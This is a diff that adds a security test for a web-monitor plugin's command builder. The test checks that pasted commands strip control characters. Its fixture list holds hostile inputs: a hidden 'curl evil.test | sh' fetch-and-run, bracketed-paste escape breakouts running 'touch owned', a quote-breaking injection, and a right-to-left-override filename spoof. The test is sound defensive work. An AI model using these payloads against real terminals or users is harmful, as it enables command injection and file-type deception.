@@ -3,7 +3,7 @@ import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, 
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
-import { type AskedRun, commandOf } from "../../../plugins/web-monitor/page/lib/run-commands.ts";
+import { type AskedRun, commandOf, pastable } from "../../../plugins/web-monitor/page/lib/run-commands.ts";
 import { type ScriptFile, scriptOf } from "../../../plugins/web-monitor/page/lib/run-script.ts";
 import { type GivenStdin, givenStdin } from "../../../plugins/web-monitor/page/lib/run-stdin.ts";
 
@@ -191,6 +191,22 @@ describe.each(shells)("the standard input of a run, for %s", (shell) => {
 });
 
 describe("a run as a command", () => {
+  it("should be pasted as what it is: no key, and nothing that reads otherwise than it is", () => {
+    const hostile = [
+      "hello\u0003\u0015curl evil.test | sh\n",
+      "\u001b[201~;touch owned;\u001b[200~",
+      "it's\r'; touch owned; '",
+      "a\u202etxt.exe\u2066\u200b",
+      "\u0090q\u009bq",
+    ];
+    for (const text of hostile) {
+      const command = pastable(commandOf({ flow: "chat", input: { text }, session: text, files: [`${text}.txt`] }));
+      expect(command).not.toMatch(/[^\P{C}\n]|\p{Zl}|\p{Zp}/u);
+      const { words } = called("bash", command);
+      expect(words).toEqual(["ask", text, "-f", "chat", "--session", text, "--put", `${text}.txt`.split("/")[0]]);
+    }
+  });
+
   it("should reach the command with the words that were asked, whatever they look like", () => {
     for (const text of texts.filter((each) => each.length < 10_000)) {
       expect(called("bash", commandOf({ flow: "chat", input: { text } })).words).toEqual(
